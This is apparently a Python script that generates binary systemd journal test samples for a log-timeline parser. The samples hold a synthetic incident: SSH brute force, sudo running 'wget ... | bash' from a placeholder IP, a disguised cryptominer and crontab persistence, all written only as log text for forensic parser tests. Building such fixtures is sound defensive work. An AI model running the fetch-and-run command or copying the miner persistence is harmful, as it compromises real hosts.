#!/usr/bin/env python3
"""Makes the binary journal samples in sample-logs/linux/journald/binary/ (see sample-logs/README.md).

Run as root from the repository root on Debian 12 with systemd-journal-remote and systemd installed:
    python3 tests/Timeline.Tests/Parsers/Linux/Journald/make_binary_journal_samples.py

1. Writes export streams (journalctl -o export syntax) of a synthetic incident on host web04: an SSH
   brute force, a login, sudo running a downloader, a miner started as a service and as a user unit,
   crontab persistence and CRON runs, a miner crash with systemd-coredump's binary COREDUMP_PROC_AUXV.
   Values over 512 bytes (the miner's command line) are stored compressed; values that are not
   printable UTF-8 (a Latin-1 user name, NULs, a trailing newline) are binary export fields.
2. Turns them into journal files with the real writer, systemd-journal-remote 252: the system journal
   in its default layout (compact, zstd, keyed hash), the user journal with SYSTEMD_JOURNAL_COMPACT=0
   (regular layout). The writer sizes its hash table from the file system it writes to, so it writes
   into a small tmpfs: the file is then 512 KiB (journald's minimum) instead of 8 MiB.
3. Trims each file after its last object and sets the header's arena_size to match (the rest is the
   zero-filled preallocation), so the samples stay small; journalctl reads the trimmed file as before.
4. Writes journalctl --file F -o export next to each file: the reference the golden test compares with.
5. Derives web04-system-online.journal~: the system journal as a copy taken while journald wrote it
   (state byte online, the last 3 entries written but not yet linked into the entry array chain,
   n_entries not yet counted). No reference: journalctl shows only the linked entries.
"""
import importlib.util
import os
import struct
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location("journald_samples", os.path.join(HERE, "make_journald_samples.py"))
OUT = "sample-logs/linux/journald/binary/"

# Reuse the field shapes of the export samples (journald 252's field sets), without writing those samples.
source = open(os.path.join(HERE, "make_journald_samples.py")).read()
helpers = source[: source.index("def web02():")]
ns = {}
exec(compile(helpers, "make_journald_samples.py", "exec"), ns)
syslog_entry, systemd_started, stdout_entry, export = ns["syslog_entry"], ns["systemd_started"], ns["stdout_entry"], ns["export"]

HOST, BOOT = "web04", "7b2c9d4e1f3a4b5c8d6e0f1a2b3c4d5e"
T0, M0 = 1714543200118842, 2_721_004_551  # 2024-05-01T06:00:00.118842Z, 45 minutes after boot


def clock(start_seq):
    seq = [start_seq]

    def at(seconds):
        seq[0] += 1
        us = int(seconds * 1_000_000)
        return T0 + us, seq[0], M0 + us
    return at


def strip_cursor(entries):
    # journal-remote makes its own seqnums and cursors; the stream's __CURSOR is not stored.
    return [[(n, v) for n, v in fields if n != "__CURSOR"] for fields in entries]


def system_entries():
    at = clock(0x5000)
    ssh = dict(comm="sshd", exe="/usr/sbin/sshd", unit="ssh.service")
    cron = dict(comm="cron", exe="/usr/sbin/cron", cmdline="/usr/sbin/cron -f", unit="cron.service")
    miner_cmdline = "/var/tmp/.x/kworkerds --donate-level 1 -o pool.hashvault.example:443 -u " + "4" + "A9f3" * 24 + " -p web04 --tls --cpu-max-threads-hint 75 --config=" + "eyJhdXRvc2F2ZSI6dHJ1ZX0" * 40
    e = []
    for i, (port, user) in enumerate([(40110, "admin"), (40116, "oracle"), (40122, "test"), (40130, "deploy"), (40136, "deploy")]):
        pid = 3101 + i * 2
        if user == "deploy":
            e.append(syslog_entry(HOST, BOOT, *at(10 + i * 2.5), "sshd", pid, 6, 4, f"Failed password for deploy from 203.0.113.77 port {port} ssh2", cmdline="sshd: deploy [priv]", **ssh))
        else:
            e.append(syslog_entry(HOST, BOOT, *at(10 + i * 2.5), "sshd", pid, 6, 4, f"Invalid user {user} from 203.0.113.77 port {port}", cmdline="sshd: unknown [priv]", **ssh))
            e.append(syslog_entry(HOST, BOOT, *at(10.9 + i * 2.5), "sshd", pid, 6, 4, f"Failed password for invalid user {user} from 203.0.113.77 port {port} ssh2", cmdline="sshd: unknown [priv]", **ssh))
    # A Latin-1 user name: MESSAGE is not UTF-8.
    e.append(syslog_entry(HOST, BOOT, *at(24.402), "sshd", 3117, 6, 4, b"Invalid user J\xfcrgen from 198.51.100.19 port 52011", cmdline="sshd: unknown [priv]", **ssh))
    e.append(syslog_entry(HOST, BOOT, *at(31.006), "sshd", 3121, 6, 4, "Accepted password for deploy from 203.0.113.77 port 40144 ssh2", cmdline="sshd: deploy [priv]", **ssh))
    e.append(syslog_entry(HOST, BOOT, *at(31.013), "sshd", 3121, 6, 10, "pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)", cmdline="sshd: deploy [priv]", **ssh))
    e.append(syslog_entry(HOST, BOOT, *at(31.040), "systemd-logind", 588, 6, 4, "New session 7 of user deploy.", comm="systemd-logind", exe="/usr/lib/systemd/systemd-logind", cmdline="/lib/systemd/systemd-logind", unit="systemd-logind.service"))
    e.append(systemd_started(HOST, BOOT, *at(31.077), "session-7.scope", "Session 7 of User deploy"))
    sudo = syslog_entry(HOST, BOOT, *at(95.310), "sudo", 3190, 5, 10, "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/bash -c wget -qO- http://198.51.100.41/i.sh | bash", comm="sudo", exe="/usr/bin/sudo", cmdline="sudo bash -c wget -qO- http://198.51.100.41/i.sh | bash", unit="session-7.scope", uid="1000")
    # rsyslog-style raw datagram journald keeps when it trimmed the message: ends in a newline, so binary.
    sudo.append(("SYSLOG_RAW", b"<85>May  1 06:01:35 sudo[3190]:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/bash -c wget -qO- http://198.51.100.41/i.sh | bash\n"))
    e.append(sudo)
    e.append(syslog_entry(HOST, BOOT, *at(95.316), "sudo", 3190, 6, 10, "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1000)", comm="sudo", exe="/usr/bin/sudo", cmdline="sudo bash -c wget -qO- http://198.51.100.41/i.sh | bash", unit="session-7.scope", uid="1000"))
    e.append(systemd_started(HOST, BOOT, *at(101.522), "kworkerds.service", "Kernel Worker Daemon"))
    e.append(stdout_entry(HOST, BOOT, *at(101.980), "kworkerds", 3240, "[2024-05-01 06:01:42.098]  net      use pool pool.hashvault.example:443 TLSv1.3 203.0.113.210", exe="/var/tmp/.x/kworkerds", cmdline=miner_cmdline, unit="kworkerds.service", uid="0"))
    e.append(stdout_entry(HOST, BOOT, *at(102.410), "kworkerds", 3240, "[2024-05-01 06:01:42.528]  cpu      use profile  rx  (2 threads) scratchpad 2048 KB", exe="/var/tmp/.x/kworkerds", cmdline=miner_cmdline, unit="kworkerds.service", uid="0"))
    e.append(syslog_entry(HOST, BOOT, *at(120.004), "crontab", 3302, 6, 9, "(root) REPLACE (root)", comm="crontab", exe="/usr/bin/crontab", cmdline="crontab /tmp/.cr", unit="session-7.scope"))
    e.append(syslog_entry(HOST, BOOT, *at(179.870), "CRON", 3350, 6, 10, "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", **cron))
    e.append(syslog_entry(HOST, BOOT, *at(179.874), "CRON", 3350, 6, 9, "(root) CMD (/var/tmp/.x/upd >/dev/null 2>&1)", **cron))
    e.append(syslog_entry(HOST, BOOT, *at(180.402), "CRON", 3350, 6, 10, "pam_unix(cron:session): session closed for user root", **cron))
    crash = systemd_started(HOST, BOOT, *at(240.118), "kworkerds.service", "Kernel Worker Daemon")
    crash = [(n, v) for n, v in crash if n not in ("MESSAGE", "UNIT", "JOB_TYPE", "JOB_RESULT", "MESSAGE_ID", "CODE_FILE", "CODE_LINE", "CODE_FUNC")]
    crash = [(n, "systemd-coredump" if n == "SYSLOG_IDENTIFIER" else v) for n, v in crash]
    crash += [("MESSAGE", "Process 3240 (kworkerds) of user 0 dumped core."), ("COREDUMP_PID", "3240"), ("COREDUMP_UID", "0"),
              ("COREDUMP_SIGNAL_NAME", "SIGSEGV"), ("COREDUMP_EXE", "/var/tmp/.x/kworkerds"), ("COREDUMP_UNIT", "kworkerds.service"),
              ("COREDUMP_CMDLINE", miner_cmdline),
              # The auxiliary vector: 16-byte (type, value) pairs, mostly NUL bytes.
              ("COREDUMP_PROC_AUXV", struct.pack("<16Q", 33, 0x7ffd2b3c1000, 16, 0x178bfbff, 6, 4096, 17, 100, 3, 0x55d0c2a00040, 4, 56, 5, 13, 0, 0)),
              ("MESSAGE_ID", "fc2e22bc6ee647b6b90729ab34a250b1")]
    e.append(crash)
    return e


def user_entries():
    at = clock(0x5100)
    e = []
    # The user manager of deploy (systemd --user) starts a user unit the downloader installed.
    started = systemd_started(HOST, BOOT, *at(97.004), "dbus-broker.service", "D-Bus User Message Bus")
    started = [(n, {"UNIT": None}.get(n, v)) for n, v in started]
    started = [(n, v) for n, v in started if v is not None]
    started = [(n, {"_PID": "3170", "_UID": "1000", "_GID": "1000", "_CMDLINE": "/lib/systemd/systemd --user",
                    "_SYSTEMD_CGROUP": "/user.slice/user-1000.slice/user@1000.service/init.scope",
                    "_SYSTEMD_UNIT": "user@1000.service", "_SYSTEMD_SLICE": "user-1000.slice",
                    "MESSAGE": "Started kthreadd.service - kthreadd."}.get(n, v)) for n, v in started]
    started += [("USER_UNIT", "kthreadd.service"), ("_SYSTEMD_OWNER_UID", "1000"), ("_SYSTEMD_USER_UNIT", "init.scope"), ("_SYSTEMD_USER_SLICE", "-.slice")]
    e.append(started)
    for i, (sec, msg) in enumerate([(97.880, "[2024-05-01 06:01:38.000]  net      use pool pool.hashvault.example:443 TLSv1.3 203.0.113.210"),
                                    (130.220, "[2024-05-01 06:02:10.340]  miner    speed 10s/60s/15m 1204.1 n/a n/a H/s max 1210.7 H/s"),
                                    (178.900, "[2024-05-01 06:02:59.018]  net      new job from pool.hashvault.example:443 diff 120001 algo rx/0 height 3141592")]):
        out = stdout_entry(HOST, BOOT, *at(sec), "kthreadd", 3188, msg, exe="/home/deploy/.cache/kthreadd", cmdline="/home/deploy/.cache/kthreadd -c /home/deploy/.cache/c.json", unit="user@1000.service", uid="1000")
        out = [(n, {"_SYSTEMD_CGROUP": "/user.slice/user-1000.slice/user@1000.service/app.slice/kthreadd.service", "_SYSTEMD_SLICE": "user-1000.slice"}.get(n, v)) for n, v in out]
        out += [("_SYSTEMD_USER_UNIT", "kthreadd.service"), ("_SYSTEMD_USER_SLICE", "app.slice"), ("_SYSTEMD_OWNER_UID", "1000")]
        e.append(out)
    return e


def u64(data, at):
    return struct.unpack_from("<Q", data, at)[0]


def trim(path):
    """Cuts the zero-filled preallocation after the last object and makes arena_size say so."""
    data = bytearray(open(path, "rb").read())
    header_size, tail = u64(data, 88), u64(data, 136)
    end = (tail + u64(data, tail + 8) + 7) & ~7
    struct.pack_into("<Q", data, 96, end - header_size)
    open(path, "wb").write(bytes(data[:end]))


def entry_array_items(data):
    """(offset of item, item size) of every used item of the global entry array chain."""
    compact = u64(data, 12) & 0xFFFFFFFF & (1 << 4)
    size = 4 if compact else 8
    items, array = [], u64(data, 176)
    while array:
        n = (u64(data, array + 8) - 24) // size
        for i in range(n):
            at = array + 24 + i * size
            if int.from_bytes(data[at:at + size], "little") == 0:
                break
            items.append((at, size))
        array = u64(data, array + 16)
    return items


def online_copy(path, target, unlinked=3):
    data = bytearray(open(path, "rb").read())
    data[16] = 1  # STATE_ONLINE
    for at, size in entry_array_items(data)[-unlinked:]:
        data[at:at + size] = bytes(size)
    struct.pack_into("<Q", data, 152, u64(data, 152) - unlinked)  # n_entries not yet counted
    if u64(data, 88) >= 264:  # tail_entry_array_n_entries (systemd 252+)
        struct.pack_into("<I", data, 260, struct.unpack_from("<I", data, 260)[0] - unlinked)
    open(target, "wb").write(bytes(data))


def make(name, entries, env):
    with tempfile.TemporaryDirectory() as small:
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m", "tmpfs", small], check=True)
        try:
            journal = os.path.join(small, name)
            subprocess.run(["/lib/systemd/systemd-journal-remote", "-o", journal, "-"], input=export(strip_cursor(entries)),
                           check=True, env={**os.environ, **env})
            open(OUT + name, "wb").write(open(journal, "rb").read())
        finally:
            subprocess.run(["umount", small], check=True)
    trim(OUT + name)
    reference = subprocess.run(["journalctl", "--file", OUT + name, "-o", "export"], check=True, capture_output=True).stdout
    open(OUT + name + ".export", "wb").write(reference)


os.makedirs(OUT, exist_ok=True)
make("web04-system.journal", system_entries(), {})
make("web04-user-1000.journal", user_entries(), {"SYSTEMD_JOURNAL_COMPACT": "0"})
online_copy(OUT + "web04-system.journal", OUT + "web04-system-online.journal~")
print("written", file=sys.stderr)
